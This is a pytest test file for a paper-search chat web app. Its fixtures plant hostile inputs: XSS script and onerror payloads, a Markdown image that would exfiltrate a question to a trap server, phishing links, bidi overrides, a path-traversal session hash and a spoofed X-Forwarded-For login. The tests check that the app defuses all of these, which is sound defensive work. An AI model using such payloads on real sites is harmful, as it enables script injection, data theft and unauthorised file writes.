"""The web chat in a real headless browser (Debian's chromium driven by Playwright), against the app on a free
port with a temp index of the seeds plus a few titled papers and one hostile record, and the project's fake
LLM server. Plus its HTTP API under 10 concurrent sessions, and the login."""

from __future__ import annotations

import json
import os
import re
import shutil
import time
import urllib.error
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import pytest
from helpers import DATA, ROOT, SEEDS, api_ask, free_port, seed_paragraphs
from fake_openai import FakeOpenAI

from rag.config import Settings
from rag.engine import Engine
from rag.web.i18n import SERVER_WORDS

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
SAE = "Is there work on making sparse autoencoders cheaper to train?"
TIME_MOE_Q = "Which paper introduces a billion-scale time series foundation model?"
EVIL = {"id": "evil-1", "title": '<script>window.__pwned = 1</script>Evil <b>bold</b> title',
        "authors": ['<img src=x onerror="window.__pwned = 2">'], "decision": "Accept (Poster)",
        "url": "https://openreview.net/forum?id=evil-1",
        "abstract": 'We study hostile markup in abstracts about zebra stripes. '
                    '<img src=x onerror="window.__pwned = 3"> '
                    "<script>window.__pwned = 4</script> Zebra stripes confuse biting flies in field experiments."}

# A title and abstract with the TeX and emphasis real OpenReview text has, and more authors than a card shows.
MARKUP = {"id": "markup-1", "title": "**T**raining-Fre**e** Guidance with $\\texttt{BRAID}$ for $\\ell_p$ Robustness",
          "authors": [f"Author Number{i}" for i in range(1, 11)], "decision": "Accept (Spotlight)",
          "venue": "ICLR 2025 Spotlight", "url": "https://openreview.net/forum?id=markup-1",
          "abstract": "We propose $\\texttt{BRAID}$, a training-free guidance method for wombat pose estimation. "
                      "It certifies $\\ell_p$ robustness of **wombat** pose estimators at no extra training cost."}

# A quoted abstract with bracketed numbers of its own (its reference list's): only the app's markers may link.
QUOTED = {"id": "quoted-refs", "title": "Narwhal tusk salinity sensing", "decision": "Accept (Poster)",
          "url": "https://openreview.net/forum?id=quoted-refs",
          "abstract": "Narwhal tusks sense salinity gradients [1] as shown in [2]. We record narwhal tusk acoustics "
                      "in Baffin Bay over two winters."}
# Bidi overrides in a title, its authors and abstract, and a twin paper on the same topic (so each is in the
# other's Related list); and a link to another site than OpenReview.
BIDI = {"id": "bidi-1", "title": "Axolotl \u202eecilA gill regrowth",
        "authors": ["Alice \u202eecilA", "Bob \u2066x\u2069"], "decision": "Accept (Oral)", "url": "https://phish.example/openreview",
        "abstract": "Axolotl gill regrowth \u202eecilA after injury is tracked with lineage tracing in larvae."}
TWIN = {"id": "bidi-2", "title": "Axolotl gill regrowth atlas", "authors": ["Carol Dee"], "decision": "Accept (Poster)",
        "url": "https://openreview.net/forum?id=bidi-2",
        "abstract": "Axolotl gill regrowth after injury is mapped with lineage tracing across larval stages."}
BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

pytestmark = [pytest.mark.browser,
              pytest.mark.skipif(not os.path.exists(CHROMIUM), reason="chromium is installed by `make test`")]


@pytest.fixture(scope="module")
def llm():
    with FakeOpenAI() as server:
        server.chunk_delay = 0.04  # slow enough to watch the answer grow
        server.models = ["fake-chat", "fake-chat-large", "fake-embed"]  # two chat models: the page offers a choice
        yield server


class Trap:
    """A local HTTP server that records every request: where planted links and images would lead."""

    def __init__(self) -> None:
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        trap = self
        self.requests: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                trap.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        import threading

        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def trap():
    server = Trap()
    yield server
    server.server.shutdown()


def hostile_markdown(trap_url: str) -> dict:
    """An abstract carrying Markdown a reader (or a model quoting it) would make live: a link, a remote image that
    would send the question away, an autolink, raw HTML."""
    return {"id": "evil-md", "title": "Quokka telemetry [click me](" + trap_url + "/phish-title)",
            "decision": "Accept (Poster)", "url": "https://openreview.net/forum?id=evil-md",
            "abstract": "We survey quokka telemetry collars on Rottnest Island. "
                        "Quokka telemetry survey data ($\\$\\$\\Huge\\kern-9em WALRUS SPOOF\\$\\$$) is at "
                        f"[the dataset]({trap_url}/phish) and ![z]({trap_url}/exfil.png?c=quokka) and "
                        f"{trap_url}/autolink for all. Collars last two seasons."}


@pytest.fixture(scope="module")
def app(tmp_path_factory, llm, trap):
    from rag.web.app import launch

    base = tmp_path_factory.mktemp("web")
    (base / "evil.jsonl").write_text("".join(json.dumps(r) + "\n" for r in (EVIL, hostile_markdown(trap.url), MARKUP,
                                                                         QUOTED, BIDI, TWIN)))
    engine = Engine(Settings(data_dir=base / "index", port=free_port(), llm_model="fake-chat",
                             llm_base_url=llm.base_url, llm_timeout=3, llm_max_retries=0,
                             llm_price_in=0.5, llm_price_out=1.5))
    engine.ingest([SEEDS])  # on its own: the same call as the session's seed stores, embedded once
    engine.ingest([DATA / "papers_small.jsonl", base / "evil.jsonl"])
    demo = launch(engine, block=False)
    yield f"http://127.0.0.1:{engine.settings.port}", engine
    demo.close()


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=[
            "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
            "--no-first-run", "--disable-sync", "--disable-quic"])
        yield browser
        browser.close()


@pytest.fixture
def page(browser, app):
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
    page = context.new_page()
    page.goto(app[0] + "/")
    page.wait_for_selector("#question textarea")
    yield page
    context.close()


def ask(page, question: str, answers_before: int = 0) -> None:
    """Ask in the chat and wait until the answer's whole event chain is done. The session line under the chat is
    written by a step that runs after the answer's event completes; waiting only for the answer's text let the
    next click land while that event was still pending, and Gradio drops such a click (trigger_mode "once"): CI
    timed out that way on a loaded machine."""
    page.fill("#question textarea", question)
    page.click("#ask")
    page.wait_for_function(
        f"document.querySelectorAll('#chat [data-testid=bot]').length > {answers_before} && "
        "document.querySelector('#sources h3') && "
        f"document.querySelector('#sources h3').innerText.includes('answer {answers_before + 1}') && "
        f"/This session: {answers_before + 1} answers?\\b/.test(document.querySelector('#session-totals').innerText)",
        timeout=90_000)


def last_answer(page) -> str:
    return page.locator("#chat [data-testid=bot]").last.inner_text()


def test_the_answer_streams_in_and_links_to_a_source_card(page, llm):
    # Every text the answer showed, recorded by the page itself (polling from here missed steps on a loaded
    # machine), with the stand-in streaming at a real small model's pace (~20 tokens/s) instead of all at once.
    page.evaluate("""() => { window.__seen = [];
        new MutationObserver(() => { const bots = document.querySelectorAll('#chat [data-testid=bot]');
            const text = bots.length ? bots[bots.length - 1].innerText : '';
            if (text && text !== window.__seen[window.__seen.length - 1]) window.__seen.push(text); })
        .observe(document.querySelector('#chat'), {childList: true, subtree: true, characterData: true}); }""")
    llm.chunk_delay = 0.05
    try:
        ask(page, SAE)
    finally:
        llm.chunk_delay = 0.005
    seen = page.evaluate("window.__seen")
    assert len(seen) >= 3, seen  # the text grew in front of the user
    assert all(len(a) <= len(b) for a, b in zip(seen, seen[1:], strict=False)), seen
    final = last_answer(page)
    assert "[1]" in final and "fake-chat (LLM)" in final
    card = page.locator("#src-0-1")
    assert "Efficient Dictionary Learning with Switch Sparse Autoencoders" in card.inner_text()
    assert "score" in card.inner_text() and card.locator("mark").count() >= 1  # question terms highlighted
    if os.environ.get("UPDATE_SCREENSHOTS"):  # the README's picture of LLM mode (the stand-in model)
        page.screenshot(path=str(ROOT / "docs" / "screenshot-llm.png"))
    page.locator('#chat a[href="#src-0-1"]').first.click()
    assert page.evaluate("location.hash") == "#src-0-1"
    card.locator("summary").click()
    assert seed_paragraphs("000_99312b63f56aee43.txt")[2] in card.inner_text()


def test_the_decision_filter_shows_only_matching_cards(page):
    page.get_by_label("Accept (Oral)").check()
    ask(page, "protein structure generation and agents for machine learning engineering")
    cards = page.locator("#sources .src-card")
    assert cards.count() >= 2  # the seed papers carry decisions too, now that they are matched to the list
    for i in range(cards.count()):
        assert "Oral" in cards.nth(i).locator(".badge").inner_text()
    titles = page.locator("#sources").inner_text()
    assert "ProtComposer" in titles and "MLE-bench" in titles
    assert "openreview.net/forum?id=0ctvBgKFgc" in page.inner_html("#sources")


def test_a_follow_up_question_uses_the_conversation(page):
    ask(page, TIME_MOE_Q)
    ask(page, "What dataset did they use?", answers_before=1)
    top = page.locator("#src-1-1")
    assert "Time-MoE: Billion-Scale Time Series Foundation Models" in top.inner_text()  # Time-MoE again
    assert page.locator("#chat [data-testid=bot]").count() == 2


def test_export_markdown_and_json(page):
    ask(page, SAE)
    with page.expect_download() as download:
        page.click("#export-md")
    markdown = download.value.path().read_text(encoding="utf-8")
    assert f"## Q1: {SAE}" in markdown
    assert "[1] Efficient Dictionary Learning with Switch Sparse Autoencoders" in markdown
    with page.expect_download() as download:
        page.click("#export-json")
    exported = json.loads(download.value.path().read_text(encoding="utf-8"))
    answer = exported["answers"][0]
    assert answer["question"] == SAE and answer["citations"][0]["n"] == 1
    assert answer["citations"][0]["text"] == seed_paragraphs("000_99312b63f56aee43.txt")[2]


def test_feedback_is_stored_as_a_json_line(page, app):
    feedback = app[1].settings.data_dir / "feedback.jsonl"
    before = feedback.read_text().splitlines() if feedback.exists() else []
    ask(page, SAE)
    page.locator('#chat button[aria-label="Like"]').last.click()
    deadline = time.time() + 10
    while time.time() < deadline and len(feedback.read_text().splitlines() if feedback.exists() else []) == len(before):
        time.sleep(0.1)
    line = json.loads(feedback.read_text().splitlines()[-1])
    assert line["helpful"] is True and line["question"] == SAE and line["cited"]


def test_hostile_markup_in_papers_renders_as_text(page):
    ask(page, "zebra stripes and biting flies")
    sources = page.locator("#sources")
    assert "<script>window.__pwned = 1</script>Evil <b>bold</b> title" in sources.inner_text()
    sources.locator("summary").first.click()
    assert '<img src=x onerror="window.__pwned = 3">' in sources.inner_text()
    assert page.evaluate("window.__pwned") is None
    assert page.locator("#sources img, #chat img, #sources script, #sources b").count() == 0


def test_with_the_llm_down_the_page_says_so_and_answers_extractively(page, llm):
    llm.mode = "cut"
    try:
        ask(page, SAE)
    finally:
        llm.mode = "normal"
    final = last_answer(page)
    assert "The LLM could not answer" in final and "stream broke off" in final
    assert "[1]" in final and "extractive" in final


def test_ten_concurrent_api_sessions_get_their_own_answers(app):
    base = app[0]
    firsts = {  # each session's earlier question, and the seed abstract its follow-up must retrieve
        "Which paper introduces a billion-scale time series foundation model?": seed_paragraphs(
            "003_ca1cb07fa40ffbf8.txt")[12],
        "What is the BirdSet dataset for avian bioacoustics?": seed_paragraphs("003_ca1cb07fa40ffbf8.txt")[14],
        "What is the CURIE benchmark for scientific long-context reasoning?": seed_paragraphs(
            "000_99312b63f56aee43.txt")[8],
        "What is CBQ, the cross-block quantization method for large language models?": seed_paragraphs(
            "003_ca1cb07fa40ffbf8.txt")[11],
        "What is the OMG metagenomic corpus?": seed_paragraphs("000_99312b63f56aee43.txt")[17],
    }
    jobs = [(first, gold) for first, gold in firsts.items()] * 2

    def session(job):
        first, gold = job
        status, answer = api_ask(base, ["How big is it?", [{"role": "user", "content": first},
                                                         {"role": "assistant", "content": "(earlier answer)"}]])
        return status, answer, gold

    with ThreadPoolExecutor(max_workers=10) as pool:
        results = list(pool.map(session, jobs))
    for status, answer, gold in results:
        assert status == 200
        assert answer["question"] == "How big is it?"
        assert answer["sources"][0]["text"] == gold, answer["retrieval_query"]


def test_api_calls_over_raw_http_may_leave_out_the_optional_values(app, capfd):
    """Gradio's HTTP API wants every positional value: `{"data": [question]}` was answered `"error": null` and
    printed a traceback in the server console. The optional values are filled with nulls (their defaults)."""
    import urllib.request

    base = app[0]

    def call(api: str, data: list) -> str:
        request = urllib.request.Request(f"{base}/gradio_api/call/{api}", data=json.dumps({"data": data}).encode(),
                                         headers={"Content-Type": "application/json"})
        event = json.loads(urllib.request.urlopen(request, timeout=30).read())["event_id"]
        return urllib.request.urlopen(f"{base}/gradio_api/call/{api}/{event}", timeout=120).read().decode()

    capfd.readouterr()
    asked = call("ask", ["What is the OMG metagenomic corpus?"])
    assert "event: complete" in asked, asked
    answer = json.loads([line[6:] for line in asked.splitlines() if line.startswith("data: ")][-1])[0]
    assert answer["sources"][0]["text"] == seed_paragraphs("000_99312b63f56aee43.txt")[17] and answer["answer"]
    related = call("related", ["The OMG dataset: An Open MetaGenomic corpus for mixed-modality genomic language "
                               "modeling"])
    assert "event: complete" in related and '"related"' in related, related
    assert "event: complete" in call("topics", []), "no values at all: points=false"
    empty = call("ask", [])  # no question at all: the app's own message, not Gradio's count check
    assert "event: error" in empty and "question" in empty, empty
    console = capfd.readouterr()
    assert "Traceback" not in console.out + console.err and "enough input values" not in console.out + console.err


def test_login_is_required_when_rag_auth_is_set(tmp_path):
    from rag.web.app import launch

    engine = Engine(Settings(data_dir=tmp_path / "index", port=free_port(), auth="reader:s3cret"))
    engine.ingest([DATA / "papers_small.jsonl"])
    demo = launch(engine, block=False)
    base = f"http://127.0.0.1:{engine.settings.port}"
    try:
        status, _ = api_ask(base, ["protein structure generation"])
        assert status == 401
        login = urllib.request.Request(base + "/login", data=b"username=reader&password=s3cret",
                                       headers={"Content-Type": "application/x-www-form-urlencoded"})
        response = urllib.request.urlopen(login, timeout=10)
        cookies = "; ".join(c.split(";")[0] for c in response.headers.get_all("set-cookie"))
        status, answer = api_ask(base, ["protein structure generation"], cookies)
        assert status == 200 and answer["sources"][0]["title"].startswith("ProtComposer")
        bad = urllib.request.Request(base + "/login", data=b"username=reader&password=wrong",
                                     headers={"Content-Type": "application/x-www-form-urlencoded"})
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(bad, timeout=10)
        assert refused.value.code == 400
        for _ in range(4):  # five failures in a minute ...
            with pytest.raises(urllib.error.HTTPError):
                urllib.request.urlopen(bad, timeout=10)
        with pytest.raises(urllib.error.HTTPError) as throttled:  # ... and even the right password waits
            urllib.request.urlopen(login, timeout=10)
        assert throttled.value.code == 429 and int(throttled.value.headers["Retry-After"]) > 0
        assert "img-src 'self'" in throttled.value.headers["Content-Security-Policy"]
        spoofed = urllib.request.Request(base + "/login", data=b"username=reader&password=s3cret",
                                         headers={"Content-Type": "application/x-www-form-urlencoded",
                                                  "X-Forwarded-For": "10.9.8.7"})
        with pytest.raises(urllib.error.HTTPError) as still:  # a made-up address is no way around it
            urllib.request.urlopen(spoofed, timeout=10)
        assert still.value.code == 429
    finally:
        demo.close()


def test_rag_auth_without_a_password_is_refused_at_start():
    from rag.config import ConfigError

    for value in ("s3cret", ":s3cret", "reader:"):
        with pytest.raises(ConfigError, match='RAG_AUTH: .*"user:password"'):
            Settings.load(auth=value)


def test_exports_of_old_sessions_and_gradio_cached_copies_are_removed(tmp_path):
    from rag.web.app import EXPORT_MAX_AGE, _sweep, build

    old, fresh = tmp_path / "old", tmp_path / "fresh"
    for folder in (old, fresh):
        folder.mkdir()
        (folder / "conversation.md").write_text("x")
    os.utime(old, (time.time() - EXPORT_MAX_AGE - 5,) * 2)
    _sweep(tmp_path, EXPORT_MAX_AGE)
    assert not old.exists() and fresh.exists()
    engine = Engine(Settings(data_dir=tmp_path / "index"))
    assert build(engine).delete_cache == (EXPORT_MAX_AGE // 2, EXPORT_MAX_AGE)



def test_planted_links_and_images_stay_text_in_both_answer_modes(page, llm, trap):
    """An abstract's `[x](url)` and `![x](url)` (quoted by the extractive answer, and repeated by the model) show
    as text: no link to them, no image, and no request ever reaches the planted server."""
    question = "Where is the quokka telemetry survey data?"
    ask(page, question)  # LLM mode: the fake model quotes the abstract's sentence, markup and all
    llm.mode = "500"
    try:
        ask(page, question, answers_before=1)  # the extractive answer that stands in
    finally:
        llm.mode = "normal"
    bots = page.locator("#chat [data-testid=bot]")
    assert "fake-chat (LLM)" in bots.nth(0).inner_text() and "extractive" in bots.nth(1).inner_text()
    for i in range(2):
        assert f"]({trap.url}/" in bots.nth(i).inner_text()  # the planted markup is shown as typed
    hrefs = page.locator("#chat a, #sources a").evaluate_all("els => els.map(e => e.href)")
    assert hrefs and not [h for h in hrefs if trap.url in h], hrefs
    assert page.locator("#chat img, #sources img").count() == 0
    assert "SPOOF" in page.inner_text("#chat") and page.locator("#chat .katex").count() == 0  # $$...$$ not typeset
    time.sleep(1)
    assert trap.requests == []


def test_the_page_runs_only_its_own_scripts(app):
    """A Content-Security-Policy with a fresh nonce on each of the page's own scripts, images only from the app."""
    import re

    first, second = (urllib.request.urlopen(app[0] + "/", timeout=10) for _ in range(2))
    policy = first.headers["Content-Security-Policy"]
    assert "img-src 'self' data: blob:" in policy and "connect-src 'self'" in policy
    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    nonce = re.search(r"'nonce-([^']+)'", policy).group(1)
    assert nonce not in second.headers["Content-Security-Policy"]
    tags = re.findall(r"<script[^>]*>", first.read().decode())
    assert tags and all(f'nonce="{nonce}"' in tag for tag in tags)


def queue_run(base: str, name: str, data: list, session: str) -> str:
    """Run one of the page's (private) handlers through Gradio's queue as the page does; the event stream."""
    config = json.loads(urllib.request.urlopen(base + "/config", timeout=10).read())
    fn = next(d for d in config["dependencies"] if d.get("api_name") == name)
    body = {"data": data, "fn_index": fn["id"], "trigger_id": fn["targets"][0][0], "session_hash": session,
            "event_data": None}
    request = urllib.request.Request(base + "/gradio_api/queue/join", data=json.dumps(body).encode(),
                                     headers={"Content-Type": "application/json"})
    assert urllib.request.urlopen(request, timeout=10).status == 200
    return urllib.request.urlopen(f"{base}/gradio_api/queue/data?session_hash={urllib.parse.quote(session)}",
                                  timeout=60).read().decode()


def test_a_hostile_session_hash_cannot_choose_where_exports_are_written(app, tmp_path):
    """The export folder is named by the server: a client's `session_hash` full of ../ writes nothing outside."""
    base = app[0]
    target = tmp_path / "owned"
    hostile = "../" * 12 + str(target).lstrip("/")
    stream = queue_run(base, "stream_answer", ["zebra stripes and biting flies", [], [], [], "", 5, None,
                                               "fake-chat"], hostile)
    assert "process_completed" in stream
    stream = queue_run(base, "export_md", [None, None], hostile)  # the session's own answers and export id
    assert "process_completed" in stream and "conversation.md" in stream  # it wrote its export
    assert not target.exists() and not any(tmp_path.iterdir())


def cached_copies(marker: str) -> list:
    """Gradio's cached copies of export files holding `marker` (Gradio keeps every file handed to a page)."""
    from pathlib import Path

    from gradio.utils import get_upload_folder

    return [p for p in Path(get_upload_folder()).rglob("conversation.*")
            if marker in p.read_text(encoding="utf-8", errors="replace")]


def test_exports_are_written_when_clicked_not_after_every_answer(page):
    """Each answer used to re-export the whole conversation, and Gradio kept every version (519 MB in 103 s);
    now a file is written on its button's click, and a click with no new answer hands out the same one."""
    import uuid

    marker = "okapi" + uuid.uuid4().hex[:8]
    for i in range(3):
        ask(page, f"Is there work on making sparse autoencoders cheaper to train ({marker} {i})?", answers_before=i)
    assert cached_copies(marker) == []  # three answers, no file yet
    for _ in range(2):
        with page.expect_download() as download:
            page.click("#export-md")
        assert f"{marker} 2" in download.value.path().read_text(encoding="utf-8")
    assert len(cached_copies(marker)) == 1
    for _ in range(2):
        with page.expect_download() as download:
            page.click("#export-json")
    assert len(json.loads(download.value.path().read_text(encoding="utf-8"))["answers"]) == 3
    assert len(cached_copies(marker)) == 2
    ask(page, f"What compute savings did they report ({marker} 3)?", answers_before=3)
    with page.expect_download() as download:
        page.click("#export-md")
    assert f"{marker} 3" in download.value.path().read_text(encoding="utf-8")
    assert len(cached_copies(marker)) == 2  # the new Markdown version replaced the old one (issue 49 #9)


def test_feedback_is_one_line_per_answer_and_the_file_is_bounded(page, app, monkeypatch):
    """300 clicks in 3 s appended 300 lines: now an answer's first vote is kept and later clicks add nothing;
    and past FEEDBACK_MAX_BYTES nothing more is written."""
    import rag.web.app as web

    feedback = app[1].settings.data_dir / "feedback.jsonl"

    def lines() -> int:
        return len(feedback.read_text().splitlines()) if feedback.exists() else 0

    ask(page, TIME_MOE_Q)
    before = lines()
    for i in range(12):
        page.locator(f'#chat button[aria-label="{"Like" if i % 2 == 0 else "Dislike"}"]').last.click()
        time.sleep(0.15)
    deadline = time.time() + 10
    while time.time() < deadline and lines() == before:
        time.sleep(0.1)
    time.sleep(2)  # the other clicks' events have been handled by now
    assert lines() == before + 1
    assert json.loads(feedback.read_text().splitlines()[-1])["question"] == TIME_MOE_Q
    monkeypatch.setattr(web, "FEEDBACK_MAX_BYTES", feedback.stat().st_size)  # the file is full
    ask(page, SAE, answers_before=1)
    size = feedback.stat().st_size
    page.locator('#chat button[aria-label="Like"]').last.click()
    page.get_by_text("feedback file is full").wait_for(timeout=10_000)
    assert feedback.stat().st_size == size


def test_a_number_inside_a_quoted_abstract_stays_text(page, llm):
    """The extractive answer quotes "Narwhal tusks sense salinity gradients [1] as shown in [2]." (the abstract's
    own reference numbers): only the app's citation after it links to a card, and every link is a citation the
    answer's JSON lists."""
    import re

    llm.mode = "500"
    try:
        ask(page, "How do narwhal tusks sense salinity gradients?")
    finally:
        llm.mode = "normal"
    bot = page.locator("#chat [data-testid=bot]").last
    assert "extractive" in bot.inner_text()
    # The abstract's own numbers read "(ref. n)" in every shell's text (issue 49 #13) and stay text on the page.
    assert "Narwhal tusks sense salinity gradients (ref. 1) as shown in (ref. 2)" in bot.inner_text()
    html = bot.inner_html()
    assert re.search(r"gradients \(ref\. 1\) as shown in \(ref\. 2\) \[<a ", html), html  # the quoted numbers: text
    with page.expect_download() as download:
        page.click("#export-json")
    exported = json.loads(download.value.path().read_text(encoding="utf-8"))["answers"][-1]
    cited = {f"#src-0-{c['n']}" for c in exported["citations"]}
    hrefs = bot.locator('a[href^="#src-"]').evaluate_all("els => els.map(e => e.getAttribute('href'))")
    assert hrefs and set(hrefs) <= cited, (hrefs, cited)
    narwhal = next(c["n"] for c in exported["citations"] if c["paper_id"] == "quoted-refs")
    assert hrefs.count(f"#src-0-{narwhal}") == 1  # the app's own marker, once


def test_bidi_overrides_are_taken_out_of_cards_and_related_lists(page):
    """`Alice \u202eecilA` read "Alice Alice" and reversed the card's own words after it; the card shows the
    letters without the override, and a link to another site than openreview.net is named by its host."""
    ask(page, "Axolotl gill regrowth after injury with lineage tracing")
    sources = page.locator("#sources")
    for details in sources.locator("details").all():
        details.evaluate("d => d.open = true")  # abstracts, author lists and Related lists, all open
    text = sources.inner_text()
    assert "Axolotl ecilA gill regrowth" in text and "Alice ecilA" in text and "Carol Dee" in text
    assert not set(BIDI_CONTROLS) & set(text), [hex(ord(c)) for c in set(BIDI_CONTROLS) & set(text)]
    related = sources.locator(".src-related .rel-card")
    assert related.count() and "Axolotl ecilA gill regrowth" in " ".join(related.all_inner_texts())
    card = sources.locator('.src-card:has-text("Axolotl ecilA")').first
    assert card.locator('a[href="https://phish.example/openreview"]').inner_text() == "phish.example"
    assert card.locator("a", has_text="OpenReview").count() == 0


def test_the_markdown_export_renders_as_text_in_a_markdown_viewer(page, browser, trap):
    """The export, rendered by a CommonMark viewer with raw HTML on, runs no script and loads and links nothing
    planted in the papers."""
    from markdown_it import MarkdownIt

    ask(page, "zebra stripes and biting flies")
    ask(page, "Where is the quokka telemetry survey data?", answers_before=1)
    with page.expect_download() as download:
        page.click("#export-md")
    markdown = download.value.path().read_text(encoding="utf-8")
    # Plain text (issue 30): markup from a paper stays in the file as text, escaped so no viewer makes it live.
    assert not re.search(r"(?<!\\)<(script|img)|(?<!\\)\]\(http", markdown), markdown
    assert "\\<script>" in markdown
    viewer = browser.new_page()
    try:
        viewer.set_content(MarkdownIt("commonmark", {"html": True}).render(markdown))
        text = viewer.inner_text("body")
        assert "<script>window.__pwned = 1</script>Evil <b>bold</b> title" in text
        assert f"![z]({trap.url}/exfil.png?c=quokka)" in text
        assert viewer.evaluate("window.__pwned") is None and viewer.locator("img, script, b").count() == 0
        hrefs = viewer.locator("a").evaluate_all("els => els.map(e => e.href)")
        assert hrefs and all(h.startswith("https://openreview.net/") for h in hrefs), hrefs
        time.sleep(0.5)
        assert trap.requests == []
    finally:
        viewer.close()


def _page_saying(browser, engine, text: str):
    """The served page, once its indexing line says `text`."""
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(f"http://127.0.0.1:{engine.settings.port}/")
    page.wait_for_function("document.querySelector('#indexing') && "
                           f"document.querySelector('#indexing').innerText.includes({json.dumps(text)})",
                           timeout=30_000)
    return page


def test_the_page_shows_indexing_progress_and_adds_uploaded_papers(browser, tmp_path):
    """While the collection is indexed in the background the page says how far it is and answers say what they
    searched; "Add papers" ingests an uploaded file like `rag ingest`, reporting its bad records by file:line."""
    import threading

    from rag.web.app import launch

    engine = Engine(Settings(data_dir=tmp_path / "index", port=free_port()), serving=True)
    engine.ingest([SEEDS])
    gate, upsert = threading.Event(), engine.index.upsert

    def held(papers, files=(), progress=None):  # the background ingest waits at the gate after it starts
        def step(done, todo):
            progress(done, todo)
            if done == 0:
                gate.wait(60)
        return upsert(papers, files=files, progress=step)

    engine.index.upsert = held
    demo = launch(engine, block=False, background=[DATA / "papers_small.jsonl"])
    try:
        page = _page_saying(browser, engine, "Indexing the collection")
        assert "38 of 46 papers indexed" in page.inner_text("#indexing")
        ask(page, "protein structure generation with a diffusion model")
        assert "Searched the 38 papers indexed so far" in last_answer(page)
        gate.set()
        page.wait_for_function("document.querySelector('#indexing').innerText.includes('46 papers indexed.')",
                               timeout=60_000)
        upload = tmp_path / "mine.jsonl"
        upload.write_text(json.dumps({"id": "up-1", "title": "Axolotl limb regeneration atlas",
                                      "abstract": "We map axolotl limb regeneration with single-cell atlases "
                                                  "across twelve stages."}) + "\n{broken\n")
        with page.expect_file_chooser() as chooser:
            page.click("#add-papers")
        chooser.value.set_files(str(upload))
        page.wait_for_function("document.querySelector('#added').innerText.includes('Added papers')",
                               timeout=60_000)
        report = page.inner_text("#added")
        assert "added 1" in report and "skipped mine.jsonl:2: invalid JSON" in report, report
        assert str(tmp_path) not in report and "/tmp" not in report
        ask(page, "axolotl limb regeneration", answers_before=1)
        assert "Axolotl limb regeneration atlas" in page.inner_text("#src-1-1")
        page.close()
    finally:
        gate.set()
        demo.close()


def test_the_page_is_served_while_seeds_are_added_and_says_they_are_being_indexed(browser, tmp_path, monkeypatch):
    """A first `make run` served the page only after a separate `rag ingest` of seeds/ and the store's loading (57 s
    at load 7-16); now the page comes first and says the collection is being indexed while the seeds go in."""
    import threading

    from rag.store.index import PaperIndex
    from rag.web.app import launch

    engine = Engine(Settings(data_dir=tmp_path / "index", port=free_port()), serving=True)
    gate, upsert = threading.Event(), PaperIndex.upsert

    def held(self, papers, files=(), progress=None):  # the seeds' ingest waits at the gate once it has started
        def step(done, todo):
            progress(done, todo)
            if done == 0 and todo == 38:
                gate.wait(60)
        return upsert(self, papers, files=files, progress=step)

    monkeypatch.setattr(PaperIndex, "upsert", held)
    demo = launch(engine, block=False, background=[DATA / "papers_small.jsonl"], first=[SEEDS])
    try:
        page = _page_saying(browser, engine, "0 of 38 papers indexed")
        assert engine.index.count() == 0
        gate.set()
        page.wait_for_function("document.querySelector('#indexing').innerText.includes('46 papers indexed.')",
                               timeout=120_000)
        ask(page, "protein structure generation with a diffusion model")
        assert "indexed so far" not in last_answer(page)
        page.close()
    finally:
        gate.set()
        demo.close()


# Every text the indexing line shows, in order, from the page's first paint (installed before the page's own
# scripts); its Markdown only, not Gradio's status tracker beside it (hidden by CSS, which may not be loaded yet).
RECORD_INDEXING_LINE = """
window.__indexing = [];
new MutationObserver(() => {
  const line = document.querySelector('#indexing [data-testid=markdown]');
  const text = line ? line.innerText.trim() : '';
  if (text && window.__indexing[window.__indexing.length - 1] !== text) window.__indexing.push(text);
}).observe(document, {subtree: true, childList: true, characterData: true});
"""


def test_a_page_loaded_after_indexing_first_shows_it_done_and_the_console_says_so(browser, tmp_path, capfd):
    """Every page load once first showed the start-up line ("Reading the collection to index…") for 2 s, however
    long ago indexing had ended; and the console of `rag serve` said nothing of the background indexing."""
    from rag.web.app import launch

    import threading

    engine = Engine(Settings(data_dir=tmp_path / "index", port=free_port()), serving=True)
    engine.ingest([SEEDS])
    gate, upsert = threading.Event(), engine.index.upsert

    def held(papers, files=(), progress=None):  # the background ingest is still running when the page is built
        def step(done, todo):
            progress(done, todo)
            if done == 0:
                gate.wait(60)
        return upsert(papers, files=files, progress=step)

    engine.index.upsert = held
    demo = launch(engine, block=False, background=[DATA / "papers_small.jsonl"])
    try:
        assert engine.indexing.running
        gate.set()
        deadline = time.time() + 120
        while engine.indexing.running and time.time() < deadline:
            time.sleep(0.2)
        assert not engine.indexing.running
        time.sleep(1.5)  # the config is published once the ingest has ended (at most a second later)
        # A Chinese browser's first paint is its own language's line too (the config carries the line's i18n key).
        for locale, line in (("en-US", "46 papers indexed."), ("zh-CN", "已索引 46 篇论文。")):
            context = browser.new_context(viewport={"width": 1400, "height": 1000}, locale=locale)
            context.add_init_script(RECORD_INDEXING_LINE)
            page = context.new_page()
            page.goto(f"http://127.0.0.1:{engine.settings.port}/")
            page.wait_for_selector("#question textarea")
            page.wait_for_timeout(3000)  # past the old timer's first tick
            seen = page.evaluate("window.__indexing")
            assert seen == [line], (locale, seen[:12])
            context.close()
    finally:
        gate.set()
        demo.close()
    console = capfd.readouterr().out
    assert re.search(r"^Indexed 46 papers in \d+ s: added 8, .*\.$", console, re.M), console


def test_adding_papers_shows_how_far_it_is_and_brings_the_report_into_view(browser, tmp_path, monkeypatch):
    """The upload's "processing" never said how far it was, and its report appeared below the fold."""
    import rag.store.index

    from rag.web.app import launch

    monkeypatch.setattr(rag.store.index, "INGEST_BATCH", 4)  # 12 papers: three batches, a progress line each
